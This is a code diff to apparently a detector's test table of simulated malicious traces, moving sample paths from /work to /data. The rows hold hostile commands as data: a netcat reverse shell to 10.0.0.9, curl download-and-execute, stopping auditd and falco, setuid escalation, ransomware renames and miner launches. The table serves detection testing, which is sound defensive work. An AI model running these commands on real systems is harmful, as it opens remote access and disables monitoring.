@@ -58,7 +58,7 @@ fn shell(trace: &mut Trace, text: &str) -> u32 {
 }
 
 fn documents() -> impl Iterator<Item = (u32, String)> {
-    (0..12).map(|n| (n, format!("/work/documents/minutes-{n}.txt")))
+    (0..12).map(|n| (n, format!("/data/documents/minutes-{n}.txt")))
 }
 
 const SOCKETS: fn() -> Vec<StdioKind> =
@@ -88,7 +88,7 @@ const SHELLS: &[Row] = &[
     }),
     ("shell-behind-pipes", Malicious, |t| {
         let script = shell(t, "true");
-        t.event(script, Kind::Mknod { path: "/work/p".into(), mode: 0o010_644 });
+        t.event(script, Kind::Mknod { path: "/data/p".into(), mode: 0o010_644 });
         let parts = t.pipeline(script, &["cat p", "sh -i", "nc 10.0.0.9 4444"]);
         t.event(parts[2], connect("10.0.0.9", 4444));
     }),
@@ -270,7 +270,7 @@ const RANSOM: &[Row] = &[
             t.event(ROOT, rename(&path, &format!("{path}.zzz")));
         }
     }),
-    ("ransom-note", Suspicious, |t| t.writes(ROOT, "/work/HOW_TO_RECOVER_FILES.txt", b"Pay up")),
+    ("ransom-note", Suspicious, |t| t.writes(ROOT, "/data/HOW_TO_RECOVER_FILES.txt", b"Pay up")),
     ("mass-destruction", Suspicious, |t| {
         for (_, path) in documents() {
             t.event(ROOT, update(&path));
@@ -299,7 +299,7 @@ const MEMORY: &[Row] = &[
         t.exec(child, "/proc/self/fd/3", &["x"]).ret = None;
     }),
     ("deleted-file-exec", Suspicious, |t| {
-        let event = t.exec(ROOT, "/work/x (deleted)", &["x"]);
+        let event = t.exec(ROOT, "/data/x (deleted)", &["x"]);
         if let Kind::Exec { deleted, .. } = &mut event.kind {
             *deleted = true;
         }
@@ -324,12 +324,12 @@ const MEMORY: &[Row] = &[
 
 const PRIVILEGE: &[Row] = &[
     ("setuid-bit", Suspicious, |t| {
-        t.event(ROOT, chmod("/work/.rootsh", 0o4755));
+        t.event(ROOT, chmod("/data/.rootsh", 0o4755));
     }),
-    ("setuid-bit", Suspicious, |t| runs(t, "chmod u+s /work/x")),
+    ("setuid-bit", Suspicious, |t| runs(t, "chmod u+s /data/x")),
     ("file-capability", Suspicious, |t| {
         let name = "security.capability".into();
-        t.failed(ROOT, Kind::SetXattr { path: "/work/x".into(), name }, -1);
+        t.failed(ROOT, Kind::SetXattr { path: "/data/x".into(), name }, -1);
     }),
     ("become-root", Suspicious, |t| {
         t.failed(ROOT, Kind::SetIds { call: "setuid".to_owned(), ids: vec![0] }, -1);
@@ -359,11 +359,11 @@ const TAMPERING: &[Row] = &[
     }),
     ("mailbox-cleared", Suspicious, |t| t.failed(ROOT, unlink("/var/mail/root"), EACCES)),
     ("timestomp", Suspicious, |t| {
-        t.writes(ROOT, "/work/.sshd", b"#!/bin/sh\n");
-        t.event(ROOT, Kind::SetTimes { path: "/work/.sshd".into(), seconds: 1_262_304_000 });
+        t.writes(ROOT, "/data/.sshd", b"#!/bin/sh\n");
+        t.event(ROOT, Kind::SetTimes { path: "/data/.sshd".into(), seconds: 1_262_304_000 });
     }),
     ("self-deletion", Suspicious, |t| {
-        t.event(ROOT, unlink("/work/sample"));
+        t.event(ROOT, unlink("/data/sample"));
     }),
     ("security-tool-stopped", Suspicious, |t| runs(t, "systemctl stop auditd")),
     ("security-tool-stopped", Suspicious, |t| runs(t, "pkill -9 falco")),
@@ -389,7 +389,7 @@ const KERNEL: &[Row] = &[
     }),
     ("host-interface", Suspicious, |t| t.failed(ROOT, read("/proc/kcore"), EACCES)),
     ("device-node", Suspicious, |t| {
-        t.failed(ROOT, Kind::Mknod { path: "/work/disk".into(), mode: 0o060_644 }, -1);
+        t.failed(ROOT, Kind::Mknod { path: "/data/disk".into(), mode: 0o060_644 }, -1);
     }),
     ("container-engine", Suspicious, |t| {
         let peer = Endpoint::Unix { path: "/var/run/docker.sock".into(), abstract_name: false };
@@ -427,7 +427,7 @@ const NETWORK: &[Row] = &[
         }
     }),
     ("crypto-miner", Suspicious, |t| {
-        t.exec(ROOT, "/work/m", &["m", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet"]);
+        t.exec(ROOT, "/data/m", &["m", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet"]);
     }),
     ("crypto-miner", Suspicious, |t| {
         t.event(ROOT, Kind::SetName { name: "xmrig".into() });
@@ -448,8 +448,8 @@ const EXECUTION: &[Row] = &[
     ("download-execute", Suspicious, |t| {
         let curl = t.command(ROOT, "curl -o stage2 http://10.0.0.9/stage2");
         t.event(curl, connect("10.0.0.9", 80));
-        t.writes(curl, "/work/stage2", b"#!/bin/sh\n");
-        t.spawn(ROOT, "/work/stage2", &["./stage2"]);
+        t.writes(curl, "/data/stage2", b"#!/bin/sh\n");
+        t.spawn(ROOT, "/data/stage2", &["./stage2"]);
     }),
     ("download-execute", Suspicious, |t| {
         let curl = t.command(ROOT, "curl -o ./stage2 http://10.0.0.9/stage2");
@@ -480,8 +480,8 @@ const EXECUTION: &[Row] = &[
     }),
     ("dropped-program", Suspicious, |t| {
         let base64 = t.command(ROOT, "base64 -d");
-        t.writes(base64, "/work/x", b"\x7fELF\x02\x01\x01");
-        t.spawn(ROOT, "/work/x", &["./x"]);
+        t.writes(base64, "/data/x", b"\x7fELF\x02\x01\x01");
+        t.spawn(ROOT, "/data/x", &["./x"]);
     }),
     ("hidden-program", Suspicious, |t| {
         t.spawn(ROOT, "/tmp/.update", &["/tmp/.update"]);
@@ -496,20 +496,20 @@ const EXECUTION: &[Row] = &[
         t.spawn(ROOT, "/usr/bin/dash", &["/bin/sh", "./sshd"]);
     }),
     ("false-file-type", Suspicious, |t| {
-        t.spawn(ROOT, "/work/invoice.pdf.sh", &["./invoice.pdf.sh"]);
+        t.spawn(ROOT, "/data/invoice.pdf.sh", &["./invoice.pdf.sh"]);
     }),
     ("false-task-name", Suspicious, |t| {
-        t.exec(ROOT, "/work/sample", &["[kworker/0:1]"]);
+        t.exec(ROOT, "/data/sample", &["[kworker/0:1]"]);
     }),
     ("false-task-name", Suspicious, |t| {
         t.event(ROOT, Kind::SetName { name: "kworker/0:1".into() });
     }),
     ("false-program-name", Suspicious, |t| {
-        t.spawn(ROOT, "/work/sshd", &["./sshd"]);
+        t.spawn(ROOT, "/data/sshd", &["./sshd"]);
     }),
     ("renamed-utility", Suspicious, |t| {
-        runs(t, "cp /bin/sh /work/update");
-        t.spawn(ROOT, "/work/update", &["./update"]);
+        runs(t, "cp /bin/sh /data/update");
+        t.spawn(ROOT, "/data/update", &["./update"]);
     }),
 ];
 
